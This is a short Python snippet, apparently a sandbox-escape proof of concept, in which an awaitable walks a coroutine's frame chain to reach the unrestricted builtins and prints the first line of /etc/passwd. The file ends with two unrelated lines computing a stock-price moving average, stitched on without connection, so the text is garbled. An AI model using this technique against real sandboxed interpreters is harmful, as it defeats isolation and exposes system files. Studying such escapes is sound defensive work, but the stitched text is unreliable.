# effect: a coroutine's frame while it runs gives the caller's builtins; /etc/passwd is printed
class Spot:
    def __await__(self):
        frame = task.cr_frame
        while frame.f_back is not None:
            frame = frame.f_back
        print(frame.f_builtins['open']('/etc/passwd').readline())
        yield


async def work():
    await Spot()


task = work()
try:
    task.send(None)
finally:
    task.close()
close = data.get('price:收盤價')
position = close > close.average(20)
